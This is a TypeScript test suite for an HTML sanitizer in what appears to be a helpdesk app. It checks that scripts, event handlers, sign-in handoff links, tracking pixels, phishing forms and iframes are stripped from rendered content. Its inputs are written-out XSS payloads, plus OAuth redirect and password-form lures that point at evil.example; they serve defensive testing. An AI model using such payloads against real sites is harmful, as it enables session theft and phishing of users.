// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { MAX_HTML_CHARS, sanitizeHtml } from "./sanitize-html";

const SERVER = "https://psa.example.com";

function render(html: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = String(sanitizeHtml(html, SERVER));
  return container;
}

describe("sanitizeHtml", () => {
  it("removes scripts and event handlers but keeps the text around them", () => {
    const container = render('<p>Printer <script>alert(1)</script>offline<img src=x onerror="alert(2)"></p>');
    expect(container.querySelector("script")).toBeNull();
    expect(container.innerHTML).not.toContain("onerror");
    expect(container.textContent).toContain("Printer offline");
  });

  it("opens links outside the app without leaking the referrer", () => {
    const link = render('<a href="https://vendor.example/kb/42">KB article</a>').querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://vendor.example/kb/42");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("drops javascript: and data: links but keeps their text", () => {
    const container = render('<a href="javascript:alert(1)">click</a> <a href="data:text/html,x">here</a>');
    expect(container.querySelector("a[href]")).toBeNull();
    expect(container.textContent).toContain("click here");
  });

  it.each([
    "https://psa.example.com/auth/mobile/handoff?redirect=https://evil.example/auth/callback&state=x",
    "/auth/mobile/handoff?redirect=https://evil.example/auth/callback&state=x",
    "https://other-alga.example/auth/signin?callbackUrl=%2Fauth%2Fmobile%2Fhandoff",
    "https://psa.example.com/auth/%6Dobile/handoff?redirect=x",
    "https://psa.example.com//AUTH/msp/signin",
    "https://psa.example.com/api/auth/signin",
    "https://app.example/auth/callback?ott=abc&state=x",
  ])("never makes a sign-in link live, whatever its host: %s", (href) => {
    const container = render(`<p>See <a href="${href}">Invoice</a></p>`);
    expect(container.querySelector("a[href]")).toBeNull();
    expect(container.textContent).toContain("Invoice");
    expect(container.textContent).toMatch(/sign-in link removed/);
  });

  it("resolves relative links and images against the Alga server, not the app's origin", () => {
    const container = render('<a href="/msp/tickets/7">ticket 7</a><img src="/files/screenshot.png" alt="screenshot">');
    expect(container.querySelector("a")?.getAttribute("href")).toBe("https://psa.example.com/msp/tickets/7");
    expect(container.querySelector("img")?.getAttribute("src")).toBe("https://psa.example.com/files/screenshot.png");
  });

  it("never loads the sign-in flow as an image (the zero-click variant of a sign-in link)", () => {
    const image = render('<img src="/auth/mobile/handoff?redirect=https://evil.example/auth/callback&state=x">').querySelector("img");
    expect(image?.getAttribute("src")).toBeNull();
  });

  it("blocks images from other origins", () => {
    const image = render('<img src="https://tracker.example/pixel.gif">').querySelector("img");
    expect(image?.getAttribute("src")).toBeNull();
    expect(image?.getAttribute("alt")).toMatch(/not loaded/);
  });

  it.each([
    '<img srcset="https://tracker.example/p.gif 1x">',
    '<img src="/logo.png" srcset="https://tracker.example/p.gif 2x">',
    '<picture><source srcset="https://tracker.example/p.gif"><img></picture>',
    '<table background="https://tracker.example/p.gif"><tr><td background="https://tracker.example/p.gif">x</td></tr></table>',
    '<video src="https://tracker.example/v.mp4" poster="https://tracker.example/p.gif" autoplay></video>',
    '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
    '<map name="m"><area shape="default" href="https://evil.example/login"></map><img src="/favicon.svg" usemap="#m">',
    '<dialog open><a href="https://evil.example">Sign in again</a></dialog>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<svg><image href="https://tracker.example/p.gif"/></svg><math><mi xlink:href="https://evil.example">x</mi></math>',
    '<link rel="stylesheet" href="https://tracker.example/s.css"><iframe src="https://evil.example"></iframe>',
  ])("loads nothing from another site through %s", (html) => {
    const container = render(html);
    for (const element of container.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        if (element.tagName === "A" && attribute.name === "href") continue;
        expect(attribute.value).not.toMatch(/evil|tracker/);
      }
    }
    expect(
      container.querySelector("video, audio, source, picture, map, area, dialog, form, input, button, base, meta, svg, math, link, iframe"),
    ).toBeNull();
  });

  it("drops inline styles and classes that could dress up as the app", () => {
    const container = render('<p style="position:fixed;inset:0" class="top-bar" id="root">x</p>');
    expect(container.querySelector("[style], [class], [id]")).toBeNull();
  });

  it("keeps only plain mail and phone links", () => {
    const container = render(
      '<a href="mailto:billing@client.example?bcc=attacker@evil.example">mail</a> <a href="tel:+1 (555) 010-9999">call</a>',
    );
    const [mail, phone] = container.querySelectorAll("a");
    expect(mail?.getAttribute("href")).toBe("mailto:billing@client.example");
    expect(phone?.getAttribute("href")).toBe("tel:+15550109999");
  });

  it("cuts HTML too long to show and says so", () => {
    const container = render(`<p>${"a".repeat(MAX_HTML_CHARS + 10)}</p>`);
    expect(container.textContent?.length).toBeLessThan(MAX_HTML_CHARS + 200);
    expect(container.textContent).toMatch(/too long to show in full/);
  });
});
